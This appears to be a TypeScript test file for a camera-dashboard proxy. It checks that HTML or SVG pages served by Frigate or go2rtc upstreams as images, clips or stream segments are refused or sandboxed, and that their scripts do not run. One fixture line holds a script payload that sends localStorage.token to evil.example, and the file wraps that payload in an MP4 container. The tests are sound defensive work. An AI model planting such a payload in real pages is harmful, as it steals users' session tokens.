import { readFile } from 'node:fs/promises'
import t, { type Test } from 'tap'
import { openPage } from '../support/browser.ts'
import { startBuilt, startBuiltHouse } from '../support/built-server.ts'
import { type Answers, startScripted, typed } from '../support/scripted-upstream.ts'
import { until } from '../support/until.ts'

const EVENT = { id: '1.1-a', camera: 'Door', label: 'car', start_time: 1, end_time: 2 }
const PAGE = '<!doctype html><script>fetch("//evil.example/?" + localStorage.token)</script>'
const SANDBOX = 'sandbox allow-same-origin'
/** A page in an MP4: as a clip it is one. */
const FILE = Buffer.concat([Buffer.from([0, 0, 0, PAGE.length + 8]), Buffer.from(`mdat${PAGE}`)])
const FOLDER = `/vod/event/${EVENT.id}`

/** What upstreams are to answer where, and the type that they have for it. */
const MEDIA: Readonly<Record<string, string>> = {
  '/api/frame.jpeg': 'image/jpeg',
  '/api/stream.mjpeg': 'multipart/x-mixed-replace; boundary=frame',
  '/api/webrtc': 'application/sdp',
  '/api/Door/latest.jpg': 'image/jpeg',
  [`/api/events/${EVENT.id}/clip.mp4`]: 'video/mp4',
  [`/api/events/${EVENT.id}/snapshot.jpg`]: 'image/jpeg',
  [`/api/events/${EVENT.id}/thumbnail.jpg`]: 'image/jpg',
  [`${FOLDER}/seg-1-v1-a1.ts`]: 'video/MP2T',
  [`${FOLDER}/init-v1-a1.mp4`]: 'video/mp4; x=y',
  [`${FOLDER}/seg-1-v1-a1.m4s`]: 'Video/MP4',
}

/** The server between upstreams that call everything this, or what it is. */
async function startCalled(t: Test, version: string, type: string | undefined) {
  const media: Answers = Object.fromEntries(
    Object.entries(MEDIA).map(([path, own]) => [
      path,
      typed(type ?? own, path.endsWith('clip.mp4') ? FILE : PAGE),
    ]),
  )
  const upstream = await startScripted(t, {
    ...media,
    '/api/version': version,
    '/api/config': '{"cameras":{"Door":{"live":{},"zones":{}}}}',
    '/api/streams': '{"Door":{"producers":[],"consumers":[]}}',
    [`/api/events/${EVENT.id}`]: JSON.stringify(EVENT),
    [`${FOLDER}/master.m3u8`]: '#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\nindex-v1-a1.m3u8\n',
  })
  const { origin, admin: user } = await startBuiltHouse(t, {
    FRIGATE_HOST: upstream.origin,
    GO2RTC_HOST: upstream.origin,
    WEBRTC: 'relay',
  })
  const master = await user.request(`/api/events/${EVENT.id}/clip.m3u8`)
  const folder = new URL('.', new URL((await master.text()).trim().split('\n').at(-1)!, master.url)).pathname
  const get = (path: string) => user.request(path)
  const whep = () =>
    fetch(`${origin}/api/go2rtc/webrtc?src=Door`, {
      method: 'POST',
      headers: { authorization: user.headers.authorization, 'content-type': 'application/sdp' },
      body: 'v=0\r\n',
    })
  const asked: Readonly<Record<string, readonly [type: string, ask: () => Promise<Response>]>> = {
    frame: ['image/jpeg', () => get('/api/go2rtc/frame.jpeg?src=Door')],
    mjpeg: ['multipart/x-mixed-replace; boundary=frame', () => get('/api/go2rtc/stream.mjpeg?src=Door')],
    whep: ['application/sdp', whep],
    latest: ['image/jpeg', () => get('/api/camera/Door/snapshot')],
    clip: ['video/mp4', () => get(`/api/events/${EVENT.id}/clip.mp4`)],
    snapshot: ['image/jpeg', () => get(`/api/events/${EVENT.id}/snapshot.jpg`)],
    thumbnail: ['image/jpeg', () => get(`/api/events/${EVENT.id}/thumbnail.jpg`)],
    ts: ['video/mp2t', () => get(`${folder}seg-1-v1-a1.ts`)],
    init: ['video/mp4', () => get(`${folder}init-v1-a1.mp4`)],
    m4s: ['video/mp4', () => get(`${folder}seg-1-v1-a1.m4s`)],
  }
  return asked
}

/** With 0.14 clips are handed on as they come, with later versions they are fetched to the disk. */
for (const version of ['0.14.1', '0.17.2']) {
  t.test(
    `${version}: a page that an upstream sends for a picture or a segment must not be handed on`,
    async t => {
      for (const type of ['text/html', 'image/svg+xml', 'TEXT/HTML; charset=utf-8', 'video/mp4x', '']) {
        const asked = await startCalled(t, version, type)
        for (const [what, [, ask]] of Object.entries(asked)) {
          const reply = await ask()
          const text = await reply.text()
          t.equal(reply.status, 502, `${what} as ${type}`)
          t.match(JSON.parse(text), { code: 'MEDIA_TYPE_REFUSED' }, what)
          t.notMatch(text, '<script>')
        }
      }
    },
  )

  t.test(
    `${version}: what is called by a right name must be handed on by one of ours, and run nothing`,
    async t => {
      const asked = await startCalled(t, version, undefined)
      for (const [what, [type, ask]] of Object.entries(asked)) {
        const reply = await ask()
        t.ok(reply.status === 200 || reply.status === 201, `${what}: ${reply.status}`)
        t.equal(reply.headers.get('content-type'), type, what)
        t.equal(reply.headers.get('x-content-type-options'), 'nosniff', what)
        t.equal(reply.headers.get('content-security-policy'), SANDBOX, what)
        await reply.body?.cancel().catch(() => {})
      }
    },
  )
}

t.test('a page among the pictures of motion JPEG must not be handed on', async t => {
  const part = (type: string, body: string) =>
    `--frame\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n${body}\r\n`
  const stream = (second: string) => part('image/jpeg', 'picture') + second + part('image/jpeg', 'another')
  const read = async (text: string) => {
    const upstream = await startScripted(t, {
      '/api/streams': '{"Door":{}}',
      '/api/stream.mjpeg': typed('multipart/x-mixed-replace; boundary=frame', text),
    })
    const { admin } = await startBuiltHouse(t, { GO2RTC_HOST: upstream.origin })
    const reply = await admin.request('/api/go2rtc/stream.mjpeg?src=Door')
    return reply.text().catch(() => 'cut')
  }
  t.equal(await read(stream(part('image/jpeg', 'second'))), stream(part('image/jpeg', 'second')))
  t.notMatch(await read(stream(part('text/html', PAGE))), '<script>')
})

t.test('whatever is no page must run nothing, also where nobody has logged in', async t => {
  const { origin } = await startBuilt(t)
  const text = await readFile(new URL('../../openapi.json', import.meta.url), 'utf8')
  const { paths } = JSON.parse(text) as { paths: Record<string, object> }
  const urls = Object.keys(paths).filter(url => 'get' in paths[url]!)
  t.ok(urls.length > 40, `${urls.length} routes`)
  for (const url of [...urls, '/nowhere', '/api/nowhere', '/%ff']) {
    const reply = await fetch(origin + url.replace(/\{\w+\}/g, '1'))
    await reply.body?.cancel()
    t.equal(reply.headers.get('content-security-policy'), SANDBOX, url)
    t.equal(reply.headers.get('x-content-type-options'), 'nosniff', url)
  }
  for (const path of ['/', '/app.js', '/vendor/uplot.js']) {
    const page = await fetch(origin + path)
    t.equal(page.status, 200, path)
    t.match(page.headers.get('content-security-policy'), "default-src 'self'", path)
  }
})

t.test('a script of what is no page must not run', async t => {
  const page = await openPage(t)
  const { origin } = await startBuilt(t)
  const data = await fetch(`${origin}/health`)
  const ours = Object.fromEntries(
    [...data.headers].filter(([name]) => /^(content-security-policy|x-content-type-options)$/.test(name)),
  )
  const asked: string[] = []
  page.on('request', request => asked.push(request.url()))
  const html = '<img src="/seen"><script>new Image().src = "/ran"</script>'
  const as = (headers: Record<string, string>) =>
    page.route('**/held', route => route.fulfill({ body: html, headers }))
  const headers = { 'content-type': 'text/html' }
  await as(headers)
  await page.goto(`${origin}/held`)
  await until(() => asked.some(url => url.endsWith('/ran')))
  asked.length = 0
  await page.unroute('**/held')
  await as({ ...headers, ...ours })
  await page.goto(`${origin}/held`)
  await until(() => asked.some(url => url.endsWith('/seen')))
  t.notOk(asked.some(url => url.endsWith('/ran')))
})
